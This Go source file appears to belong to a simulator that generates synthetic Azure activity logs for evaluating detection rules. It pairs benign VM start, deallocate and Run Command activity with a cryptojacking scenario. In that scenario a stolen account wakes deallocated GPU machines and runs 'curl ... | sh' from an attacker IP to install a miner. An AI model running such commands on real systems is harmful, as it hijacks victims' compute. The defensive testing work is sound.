package simulate

import (
	"fmt"
	"math/rand/v2"
	"strings"
	"time"
)

// Machines a tenant wakes rather than creates, and the commands it runs on
// them: a Start/Stop automation that starts the build agents each weekday
// morning and deallocates them at night, data scientists starting their
// training VMs, the training pipeline's monthly run on a deallocated GPU
// scale set, ops engineers' Run Commands, and the platform team rotating
// the subscription's Activity Log export to a new workspace. Without them
// the rules on starts, Run Command and the export (compute_started.*,
// run_command.*, activity_log_export_removed) had nothing benign to stay
// quiet on, and eval could not measure them. Every record here draws from
// a stream of its own (gen.wk), so the records of a seed that were there
// before stay as they were.

// newWokenRand is the stream the woken machines' records draw from.
func newWokenRand(seed uint64) *rand.Rand { return rand.New(rand.NewPCG(seed, 0x776f6b)) }

// drawFrom switches the generator to stream r until the returned
// function is called: records written meanwhile leave every other
// record of a seed as it was.
func (g *gen) drawFrom(r *rand.Rand) (restore func()) {
	old := g.r
	g.r = r
	return func() { g.r = old }
}

// Operations of machines woken, stopped and commanded.
const (
	opVMStart         = "MICROSOFT.COMPUTE/VIRTUALMACHINES/START/ACTION"
	opVMDeallocate    = "MICROSOFT.COMPUTE/VIRTUALMACHINES/DEALLOCATE/ACTION"
	opVMSSStart       = "MICROSOFT.COMPUTE/VIRTUALMACHINESCALESETS/START/ACTION"
	opVMSSVMStart     = "MICROSOFT.COMPUTE/VIRTUALMACHINESCALESETS/VIRTUALMACHINES/START/ACTION"
	opVMSSDeallocate  = "MICROSOFT.COMPUTE/VIRTUALMACHINESCALESETS/DEALLOCATE/ACTION"
	opVMRunCommand    = "MICROSOFT.COMPUTE/VIRTUALMACHINES/RUNCOMMAND/ACTION"
	opVMSSRunCommand  = "MICROSOFT.COMPUTE/VIRTUALMACHINESCALESETS/VIRTUALMACHINES/RUNCOMMAND/ACTION"
	opDiagSettingPut  = "MICROSOFT.INSIGHTS/DIAGNOSTICSETTINGS/WRITE"
	opDiagSettingDrop = "MICROSOFT.INSIGHTS/DIAGNOSTICSETTINGS/DELETE"
	trainSetSize      = "Standard_ND96asr_v4"
	trainSetNodes     = 5 // 40 GPUs: below gpu_volume's 48 when the pipeline wakes it
)

// trainSetID is the training pipeline's GPU scale set, deallocated between
// its monthly runs.
func (t *tenant) trainSetID() string {
	return t.rg("ml-training") + "/PROVIDERS/MICROSOFT.COMPUTE/VIRTUALMACHINESCALESETS/TRAIN-ND96"
}

// buildAgent is ops engineer i's build agent of the inventory: its id and
// region.
func (t *tenant) buildAgent(i int) (string, string) {
	loc := t.Regions[i%len(t.Regions)]
	return t.vmID("ops-"+loc, fmt.Sprintf("build-agent-%d", i+1)), loc
}

// trainVM is data scientist i's training VM of the inventory.
func (t *tenant) trainVM(i int) string {
	return t.vmID("ml-training", fmt.Sprintf("ds-train-%02d", i+1))
}

// diagSettingID is a subscription diagnostic setting's id.
func (t *tenant) diagSettingID(name string) string {
	return "/SUBSCRIPTIONS/" + strings.ToUpper(t.Sub) + "/PROVIDERS/MICROSOFT.INSIGHTS/DIAGNOSTICSETTINGS/" + strings.ToUpper(name)
}

// exportBody is a subscription diagnostic setting sending the Activity
// Log's categories to the security team's workspace.
func (t *tenant) exportBody() map[string]any {
	var logs []any
	for _, c := range []string{"Administrative", "Security", "ServiceHealth", "Alert", "Recommendation", "Policy", "Autoscale", "ResourceHealth"} {
		logs = append(logs, map[string]any{"category": c, "enabled": true})
	}
	return map[string]any{"properties": map[string]any{
		"workspaceId": "/subscriptions/" + t.Sub + "/resourcegroups/security/providers/microsoft.operationalinsights/workspaces/sentinel",
		"logs":        logs}}
}

// wokenInventory is the first day's part of the woken machines: the
// subscription's export, and the training scale set, created by the
// pipeline and deallocated until its first run.
func (g *gen) wokenInventory(at time.Time) {
	defer g.drawFrom(g.wk)()
	t := g.t
	admin := g.user(t.People[t.Admin], t.office(g.r), true)
	g.arm(at, admin, opDiagSettingPut, t.diagSettingID("export-to-sentinel"), armOpts{Body: t.exportBody()})
	sp := g.spActor(t.ML, t.office(g.r))
	loc := t.DSRegion
	end := g.arm(at.Add(4*time.Hour), sp, "MICROSOFT.COMPUTE/VIRTUALMACHINESCALESETS/WRITE", t.trainSetID(),
		armOpts{Body: vmssBody(loc, trainSetSize, trainSetNodes, "Regular", []any{}), Loc: loc, Accept: true})
	g.arm(end.Add(3*time.Hour), sp, opVMSSDeallocate, t.trainSetID(), armOpts{Loc: loc, Accept: true})
}

// benignWoken writes a day of the woken machines' work.
func (g *gen) benignWoken(day time.Time, weekday bool) {
	defer g.drawFrom(g.wk)()
	t := g.t
	n := int(day.Sub(g.opt.Start).Hours() / 24)
	office := func() string { return t.office(g.r) }
	if weekday {
		// An Azure Automation runbook: from Azure's addresses, as the
		// monitoring automation's calls are.
		sp := g.spActor(t.StartStop, fmt.Sprintf("52.%d.%d.%d", 100+g.r.IntN(50), g.r.IntN(256), 1+g.r.IntN(250)))
		morning, night := day.Add(7*time.Hour+g.jitter(10*time.Minute)), day.Add(19*time.Hour+g.jitter(10*time.Minute))
		for i := range t.Ops {
			rid, loc := t.buildAgent(i)
			g.arm(morning.Add(time.Duration(i)*time.Minute), sp, opVMStart, rid, armOpts{Loc: loc, Accept: true, Noisy: true})
			g.arm(night.Add(time.Duration(i)*time.Minute), sp, opVMDeallocate, rid, armOpts{Loc: loc, Accept: true, Noisy: true})
		}
		// Each data scientist starts their training VM most days, may run
		// a setup script on it through Run Command, and deallocates it
		// when leaving; each ops engineer runs a script on a build agent
		// most days (work that comes round every few weeks is the
		// chores', rare.go).
		for i, d := range t.DS {
			if g.r.IntN(3) == 0 {
				continue
			}
			a := g.user(t.People[d], office(), true)
			up := g.arm(day.Add(9*time.Hour+g.jitter(40*time.Minute)), a, opVMStart, t.trainVM(i), armOpts{Loc: t.DSRegion, Accept: true, Noisy: true})
			if g.r.IntN(4) != 0 {
				g.arm(up.Add(5*time.Minute+g.jitter(10*time.Minute)), a, opVMRunCommand, t.trainVM(i),
					armOpts{Body: runShell("nvidia-smi && pip install -U -r /opt/train/requirements.txt"), Loc: t.DSRegion, Accept: true, Noisy: true})
			}
			g.arm(day.Add(17*time.Hour+g.jitter(40*time.Minute)), a, opVMDeallocate, t.trainVM(i), armOpts{Loc: t.DSRegion, Accept: true, Noisy: true})
		}
		for _, o := range t.Ops {
			if g.r.IntN(2) == 0 {
				continue
			}
			rid, loc := t.buildAgent(g.r.IntN(len(t.Ops)))
			g.arm(day.Add(10*time.Hour+g.jitter(5*time.Hour)), g.user(t.People[o], office(), true), opVMRunCommand, rid,
				armOpts{Body: runShell("sudo systemctl restart docker && docker system prune -f"), Loc: loc, Accept: true, Noisy: true})
		}
	}
	// The training pipeline's run every ten days, from the second: the
	// scale set woken at night, deallocated in the morning.
	if n%10 == 1 {
		sp := g.spActor(t.ML, office())
		g.arm(day.Add(time.Hour+g.jitter(10*time.Minute)), sp, opVMSSStart, t.trainSetID(), armOpts{Loc: t.DSRegion, Accept: true, Noisy: true})
		g.arm(day.Add(7*time.Hour+g.jitter(10*time.Minute)), sp, opVMSSDeallocate, t.trainSetID(), armOpts{Loc: t.DSRegion, Accept: true, Noisy: true})
	}
	// Once a month the platform team moves the export to a new
	// workspace: the new setting written, the old one deleted minutes
	// later, in either order.
	if n == t.Rotation {
		admin := g.user(t.People[t.Admin], office(), true)
		at := day.Add(11*time.Hour + g.jitter(2*time.Hour))
		first, second := opDiagSettingPut, opDiagSettingDrop
		if g.r.IntN(2) == 0 {
			first, second = second, first
		}
		for i, op := range []string{first, second} {
			name, body := "export-to-sentinel-v2", any(t.exportBody())
			if op == opDiagSettingDrop {
				name, body = "export-to-sentinel", nil
			}
			g.arm(at.Add(time.Duration(i)*(5*time.Minute+g.jitter(5*time.Minute))), admin, op, t.diagSettingID(name), armOpts{Body: body})
		}
	}
}

// runShell is a Run Command's body: a shell script run as root.
func runShell(script string) map[string]any {
	return map[string]any{"commandId": "RunShellScript", "script": []any{script}}
}

// dormantWake is cryptojacking on capacity the tenant already pays to
// keep: a developer's account, password only, signs in from Azure, starts
// every machine it finds deallocated (the training pipeline's GPU scale
// set's instances, the data scientists' training VMs, the build agents),
// and starts a miner on the set's instances through Run Command. No quota, no create, no extension: only starts and
// commands, which none of the rules on creates read.
func (g *gen) dormantWake(at time.Time) Attack {
	t := g.t
	ip := pick(g.r, attackerIPs)
	// A developer: no role in the scenarios, never started a machine.
	p := pick(g.r, t.developers())
	ua := g.stolenCLI(at, p, ip, false)
	loc := t.DSRegion
	a := Attack{Start: at, Principals: principalIDs(p), Resources: []string{strings.ToLower(t.trainSetID()), strings.ToLower(t.FirewallID)}}
	kit := g.minerKit()
	// Every machine it finds: the set's instances one by one, the
	// training VMs, the build agents.
	now := at.Add(3*time.Minute + g.jitter(3*time.Minute))
	for i := range trainSetNodes {
		now = g.arm(now.Add(10*time.Second+g.jitter(20*time.Second)), ua, opVMSSVMStart, fmt.Sprintf("%s/VIRTUALMACHINES/%d", t.trainSetID(), i), armOpts{Loc: loc, Accept: true})
	}
	for i := range t.DS {
		now = g.arm(now.Add(10*time.Second+g.jitter(20*time.Second)), ua, opVMStart, t.trainVM(i), armOpts{Loc: loc, Accept: true})
		a.Resources = append(a.Resources, strings.ToLower(t.trainVM(i)))
	}
	for i := range t.Ops {
		rid, vloc := t.buildAgent(i)
		now = g.arm(now.Add(10*time.Second+g.jitter(20*time.Second)), ua, opVMStart, rid, armOpts{Loc: vloc, Accept: true})
		a.Resources = append(a.Resources, strings.ToLower(rid))
	}
	pool := pick(g.r, listedPools)
	ep := g.poolEndpoint(pool, 0)
	net := g.attackNetwork(now, a.Start, ua, "ml-training", "train-nd96", loc)
	script := "curl -fsSL http://" + fmt.Sprintf("45.%d.%d.%d", 9+g.r.IntN(80), g.r.IntN(256), 1+g.r.IntN(250)) + "/x.sh | sh"
	resolved := false
	for i := range trainSetNodes {
		now = g.arm(now.Add(30*time.Second+g.jitter(30*time.Second)), ua, opVMSSRunCommand, fmt.Sprintf("%s/VIRTUALMACHINES/%d", t.trainSetID(), i),
			armOpts{Body: runShell(script), Loc: loc, Accept: true})
		host := fmt.Sprintf("train-nd96%06d", i)
		up := now.Add(20*time.Second + g.jitter(40*time.Second))
		src := fmt.Sprintf("10.%d.6.%d", 70+g.r.IntN(4), 4+i) // no benign host has these (flows.go)
		resolved = g.lookup(up, net, src, pool+".") || resolved
		g.attackerExec(up.Add(time.Second), host, 2100+g.r.IntN(100), 1877, 0, kit.args(g.mnr, ep, devCUDA))
		g.minerAlert(&a, up.Add(time.Second), t.trainSetID(), host)
		a.extend(up.Add(time.Second))
		a.extend(g.minerFlows(up, net, src, ep))
	}
	// At least ten machines started (five instances, three or more
	// training VMs and build agents each) and five commanded, within the
	// hour.
	a.MustFire = []string{
		"azure.signin.azure_ip_not_owned", "azure.signin.azure_ip_not_owned.arm",
		"azure.compute.compute_started.first_by_principal", "azure.compute.compute_started.many_machines",
		"azure.compute.run_command.first_by_principal", "azure.compute.run_command.many_machines",
	}
	a.mined(g.agents, kit, ep, resolved)
	a.addNote("nothing is created: the rules on creates, quota and drivers have nothing to read")
	return a
}

// dormantWakeTwin is the data team waking the same capacity for its work:
// a data scientist, MFA from the office, starts the training scale set for
// an extra run in working hours and runs a setup script on one instance
// through Run Command, as the team does.
func (g *gen) dormantWakeTwin(at time.Time) Attack {
	t := g.t
	i := g.r.IntN(len(t.DS))
	p := t.People[t.DS[i]]
	ip := t.office(g.r)
	g.signIn(at, signin{UPN: p.UPN, OID: p.OID, IP: ip, App: "Microsoft Azure CLI", AppID: appCLI, MFA: true})
	ua := g.user(p, ip, true)
	loc := t.DSRegion
	a := Attack{Start: at, Principals: principalIDs(p), Resources: []string{strings.ToLower(t.trainSetID())}}
	now := g.arm(at.Add(4*time.Minute+g.jitter(4*time.Minute)), ua, opVMSSStart, t.trainSetID(), armOpts{Loc: loc, Accept: true})
	now = g.arm(now.Add(time.Minute+g.jitter(time.Minute)), ua, opVMStart, t.trainVM(i), armOpts{Loc: loc, Accept: true})
	now = g.arm(now.Add(2*time.Minute+g.jitter(2*time.Minute)), ua, opVMSSRunCommand, t.trainSetID()+"/VIRTUALMACHINES/0",
		armOpts{Body: runShell("nvidia-smi && pip install -r /opt/train/requirements.txt"), Loc: loc, Accept: true})
	for n := range trainSetNodes {
		g.exec(now.Add(time.Minute+time.Duration(n)*time.Second), fmt.Sprintf("train-nd96%06d", n), 1700+n, 1, 0, []string{"/usr/bin/python3", "/opt/train/train.py", "--epochs", "40"})
	}
	end := g.arm(now.Add(5*time.Hour+g.jitter(time.Hour)), ua, opVMSSDeallocate, t.trainSetID(), armOpts{Loc: loc, Accept: true})
	a.End = end
	a.MustNotFire = []string{
		"azure.signin.azure_ip_not_owned", "azure.signin.azure_ip_not_owned.arm",
		"azure.compute.compute_started.many_machines", "azure.compute.run_command.many_machines",
		"azure.compute.gpu_volume", "azure.compute.gpu_volume.day", "azure.compute.gpu_volume.tenant",
		"azure.host.miner_process", "azure.network.mining_pool_connection", "azure.defender.mining_alert",
	}
	return a
}
